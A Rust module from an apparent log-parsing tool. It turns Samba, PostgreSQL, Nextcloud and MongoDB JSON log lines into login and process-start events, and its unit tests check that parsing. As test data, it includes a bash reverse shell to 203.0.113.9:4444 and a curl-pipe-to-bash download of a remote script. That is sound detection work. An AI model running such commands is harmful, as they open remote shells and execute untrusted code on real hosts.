//! What daemons and applications say in JSON logs of their own: Samba, PostgreSQL,
//! Nextcloud; and commands that were run, where an event names no kind.

use super::doc::Doc;
use super::generic::default_span;
use super::names::Key;
use super::{hosted, said};
use crate::event::{Draft, EventType, Outcome, Ov, RecordFlags, Span, ValueKind};
use crate::parse::syslog::programs;
use crate::parse::{Ctx, addr};

/// Looks for one of them; whether its message is read with that.
pub(super) fn apply(doc: &Doc, ctx: &Ctx, d: &mut Draft<'_>, copy: &mut String) -> bool {
    if doc.has(Key::SambaClient) {
        samba(doc, ctx, d);
        return true;
    }
    if doc.has(Key::PostgresLevel) && doc.has(Key::PostgresKind) {
        postgres(doc, ctx, d, copy);
        return true;
    }
    if hosted::apply(doc, d, copy) {
        return true;
    }
    if doc.has(Key::CloudFiles) && doc.is_text(d, Key::Message) {
        cloud_files(doc, d);
    } else if d.rec.event_type == EventType::Other && d.get(Ov::HttpMethod).is_none() {
        command(doc, d);
    }
    if d.rec.event_type == EventType::ProcessStart && !doc.has(Key::CommandLine) {
        // The name that rules know it by.
        let line = doc.key(d, Key::Command);
        if !line.is_empty() {
            d.span_field("CommandLine", line, ValueKind::Text);
        }
    }
    false
}

fn failed(d: &mut Draft<'_>) {
    d.event(EventType::LoginFailed, Outcome::Failure);
    d.flag(RecordFlags::ACT_VERDICT);
}

/// `{"type": "Authentication", "Authentication": {"status": "NT_STATUS_…", "remoteAddress": "ipv4:…", …}}`
fn samba(doc: &Doc, ctx: &Ctx, d: &mut Draft<'_>) {
    match doc.text(d, Key::SambaStatus) {
        // What a session may do, once it is let in.
        "" => d.event(EventType::SessionStart, Outcome::Success),
        "NT_STATUS_OK" => d.event(EventType::Login, Outcome::Success),
        _ => failed(d),
    }
    let ends = [(Key::SambaClient, Ov::SrcIp, Ov::SrcPort), (Key::SambaServer, Ov::DestIp, Ov::DestPort)];
    for (key, ip, port) in ends {
        let span = doc.key(d, key);
        let text = d.value(span);
        let Some((a, p)) = programs::samba_address(text).filter(|(a, _)| addr::is_ip(a)) else { continue };
        let part = |part: &str| (part.as_ptr() as usize - text.as_ptr() as usize, part.len());
        let (a, p) = (part(a), part(p));
        d.set_span(ip, span.skip(a.0).first(a.1));
        default_span(d, port, span.skip(p.0).first(p.1));
    }
    let user = doc.key(d, Key::SambaUser);
    default_span(d, Ov::User, user);
    let service = doc.key(d, Key::SambaService);
    default_span(d, Ov::Resource, service);
    d.set_default(Ov::Process, "smbd");
    d.logsource(ctx.ls.application);
}

/// PostgreSQL's `jsonlog`: the words of its own log, the client in fields beside them.
fn postgres(doc: &Doc, ctx: &Ctx, d: &mut Draft<'_>, copy: &mut String) {
    let (user, src, port) = (overlay(d, Ov::User), overlay(d, Ov::SrcIp), overlay(d, Ov::SrcPort));
    // The two levels whose words are read.
    let level = match doc.text(d, Key::PostgresLevel) {
        "FATAL" => "FATAL",
        "LOG" => "LOG",
        _ => "",
    };
    copy.clear();
    copy.push_str(doc.text(d, Key::Message));
    d.event(EventType::Other, Outcome::Unknown);
    programs::postgres_said(level, copy, d);
    for (name, span) in [(Ov::User, user), (Ov::SrcIp, src), (Ov::SrcPort, port)] {
        if span.is_some() {
            d.set_span(name, span);
        }
    }
    d.set(Ov::Process, "postgres");
    d.logsource(ctx.ls.database);
}

fn overlay(d: &Draft<'_>, name: Ov) -> Span {
    d.rec.overlay[name as usize]
}

/// Nextcloud's log: `Login failed: NAME (Remote IP: ADDR)`, the address in a field of its own.
fn cloud_files(doc: &Doc, d: &mut Draft<'_>) {
    if d.get(Ov::User) == Some("--") {
        d.unset(Ov::User);
    }
    let span = doc.key(d, Key::Message);
    let text = d.value(span);
    let name = if let Some(rest) = text.strip_prefix("Login failed: ") {
        let end = rest.rfind(" (Remote IP: ").unwrap_or(rest.len());
        Some((Outcome::Failure, "Login failed: ".len(), end))
    } else {
        text.strip_prefix("Login successful: ").map(|rest| (Outcome::Success, "Login successful: ".len(), rest.len()))
    };
    let Some((outcome, at, len)) = name else { return };
    let mut name = span.skip(at).first(len);
    let quoted = d.value(name);
    if quoted.len() > 1
        && (quoted.starts_with('"') && quoted.ends_with('"') || quoted.starts_with('\'') && quoted.ends_with('\''))
    {
        name = name.skip(1).first(len - 2);
    }
    if outcome == Outcome::Failure {
        failed(d);
    } else {
        d.event(EventType::Login, outcome);
    }
    if !name.is_empty() {
        d.set_span(Ov::User, name);
    }
}

/// A command line, with somebody or some machine that ran it.
fn command(doc: &Doc, d: &mut Draft<'_>) {
    let windows = doc.has(Key::CommandLine);
    let line = doc.key(d, if windows { Key::CommandLine } else { Key::Command });
    let whose = [Ov::User, Ov::Host, Ov::Pid, Ov::SessionId].into_iter().any(|n| d.get(n).is_some());
    let told = windows || doc.is_text(d, Key::Command) && whose && is_command(d.value(line));
    if !told || !said::is_line(doc, d) {
        return;
    }
    d.event(EventType::ProcessStart, d.rec.outcome);
    if !line.is_empty() {
        d.set_span(Ov::Resource, line);
    }
    if windows {
        for (key, name) in [(Key::Computer, Ov::Host), (Key::WinUser, Ov::User)] {
            let span = doc.key(d, key);
            default_span(d, name, span);
        }
        let image = doc.key(d, Key::Image);
        let at = d.value(image).rfind(['\\', '/']).map_or(0, |at| at + 1);
        default_span(d, Ov::Process, image.skip(at));
    }
}

/// Whether a text begins as a command of a shell does: with a path or a name in small letters,
/// and more than that name.
fn is_command(text: &str) -> bool {
    let first = text.split(' ').next().unwrap_or("");
    let path = first.starts_with(['/', '.', '~', '$']) && first.len() > 1;
    let name =
        first.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'_' | b'-' | b'.' | b'+'));
    path || (name && text.len() > first.len() + 1 && first.starts_with(|c: char| c.is_ascii_lowercase()))
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use crate::event::{EventRow, EventType, Outcome, Ov, Schema, Ts};
    use crate::parse::{Options, Parser};

    fn row(line: &str) -> EventRow {
        let t = Ts::parse_rfc3339("2026-11-20T00:00:00Z").expect("a time");
        let parser = Parser::for_source("a.log", b"", &Options::new(t), &Arc::new(Schema::base()));
        EventRow::from(parser.parse_one(line).event(0).expect("an event"))
    }

    fn what(e: &EventRow) -> (EventType, Outcome, [&str; 2]) {
        (e.event_type, e.outcome, [Ov::User, Ov::SrcIp].map(|n| e.ov(n).unwrap_or("")))
    }

    #[test]
    fn log_ins_at_a_file_server() {
        let line = |status: &str| {
            format!(
                r#"{{"timestamp":"2024-03-02T08:00:00.123456+0000","type":"Authentication","Authentication":{{"version":{{"major":1,"minor":2}},"eventId":4625,"status":"{status}","localAddress":"ipv4:10.0.0.5:445","remoteAddress":"ipv4:203.0.113.9:50123","serviceDescription":"SMB2","authDescription":null,"clientDomain":"CORP","clientAccount":"bob","workstation":"WS1"}}}}"#
            )
        };
        let e = row(&line("NT_STATUS_WRONG_PASSWORD"));
        assert_eq!(what(&e), (EventType::LoginFailed, Outcome::Failure, ["bob", "203.0.113.9"]));
        assert_eq!((e.ov(Ov::SrcPort), e.ov(Ov::DestIp)), (Some("50123"), Some("10.0.0.5")));
        let e = row(&line("NT_STATUS_OK"));
        assert_eq!(what(&e), (EventType::Login, Outcome::Success, ["bob", "203.0.113.9"]));
        let e = row(
            r#"{"timestamp":"2024-03-02T08:00:00.1+0000","type":"Authorization","Authorization":{"localAddress":"ipv4:10.0.0.5:445","remoteAddress":"ipv6:2001:db8::7:50123","account":"bob"}}"#,
        );
        assert_eq!(what(&e), (EventType::SessionStart, Outcome::Success, ["bob", "2001:db8::7"]));
    }

    #[test]
    fn log_ins_at_a_database() {
        let e = row(
            r#"{"timestamp":"2024-03-02 08:00:00.123 UTC","user":"bob","dbname":"app","pid":123,"remote_host":"10.1.2.3","remote_port":54321,"session_id":"65e2d8a0.7b","error_severity":"FATAL","state_code":"28P01","message":"password authentication failed for user \"bob\"","backend_type":"client backend"}"#,
        );
        assert_eq!(what(&e), (EventType::LoginFailed, Outcome::Failure, ["bob", "10.1.2.3"]));
        let e = row(
            r#"{"timestamp":"2024-03-02 08:00:00.123 UTC","user":"bob","dbname":"app","remote_host":"10.1.2.3","session_id":"x","error_severity":"ERROR","message":"login failed for user eve from 6.6.6.6","backend_type":"client backend"}"#,
        );
        assert_eq!((e.event_type, e.ov(Ov::SrcIp)), (EventType::Other, Some("10.1.2.3")));
    }

    #[test]
    fn log_ins_at_a_file_share_of_the_web() {
        let line = |message: &str| {
            format!(
                r#"{{"reqId":"a","level":2,"time":"2024-03-02T08:00:00+00:00","remoteAddr":"203.0.113.9","user":"--","app":"core","method":"POST","url":"/login","message":"{message}","userAgent":"x"}}"#
            )
        };
        for message in ["Login failed: bob (Remote IP: 203.0.113.9)", "Login failed: 'bob' (Remote IP: '203.0.113.9')"]
        {
            let e = row(&line(message));
            assert_eq!(what(&e), (EventType::LoginFailed, Outcome::Failure, ["bob", "203.0.113.9"]), "{message}");
        }
        let e = row(&line("Login failed: x (Remote IP: 6.6.6.6) (Remote IP: 203.0.113.9)"));
        assert_eq!(what(&e).2, ["x (Remote IP: 6.6.6.6)", "203.0.113.9"]);
        let e = row(&line("Login successful: \\\"bob\\\""));
        assert_eq!(what(&e), (EventType::Login, Outcome::Success, ["bob", "203.0.113.9"]));
        let e = row(&line("Trusted domain error."));
        assert_eq!((e.event_type, e.ov(Ov::User)), (EventType::HttpRequest, None));
    }

    #[test]
    fn log_ins_at_a_document_store() {
        let e = row(
            r#"{"t":{"$date":"2024-03-02T08:00:00.123+00:00"},"s":"I","c":"ACCESS","id":20249,"ctx":"conn12","msg":"Authentication failed","attr":{"principalName":"bob","remote":"203.0.113.9:40000"}}"#,
        );
        assert_eq!(what(&e), (EventType::LoginFailed, Outcome::Failure, ["bob", "203.0.113.9"]));
        assert_eq!(e.time.to_rfc3339(), "2024-03-02T08:00:00.123Z");
    }

    #[test]
    fn commands() {
        for (line, user, command) in [
            (
                r#"{"ts":"2024-03-02T08:00:00Z","host":"web1","user":"www-data","command":"/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}"#,
                "www-data",
                "/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            ),
            (
                r#"{"time":"2024-03-02T08:00:00Z","host":"web1","uid":33,"cmd":"curl http://203.0.113.9/x.sh | bash"}"#,
                "",
                "curl http://203.0.113.9/x.sh | bash",
            ),
            (
                r#"{"UtcTime":"2024-03-02 08:00:03","Computer":"WS1","User":"CORP\\bob","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c dir"}"#,
                "CORP\\bob",
                "cmd.exe /c dir",
            ),
        ] {
            let e = row(line);
            assert_eq!(
                (e.event_type, e.ov(Ov::User).unwrap_or(""), e.ov(Ov::Resource)),
                (EventType::ProcessStart, user, Some(command))
            );
            let field =
                e.fields.iter().filter(|f| f.name == "CommandLine").map(|f| f.value.as_str()).collect::<Vec<_>>();
            assert_eq!(field, [command]);
        }
        for line in [
            r#"{"ts":"2024-03-02T08:00:00Z","host":"irc","user":"bob","command":"NICK","msg":"x"}"#,
            r#"{"ts":"2024-03-02T08:00:00Z","user":"bob","command":"MAIL FROM:<a@example.org>"}"#,
            r#"{"ts":"2024-03-02T08:00:00Z","user":"bob","event":"chat","command":"/roll d20"}"#,
            r#"{"ts":"2024-03-02T08:00:00Z","user":"bob","command":"migrate"}"#,
            r#"{"ts":"2024-03-02T08:00:00Z","command":"ls -l"}"#,
        ] {
            assert_eq!(row(line).event_type, EventType::Other, "{line}");
        }
    }
}
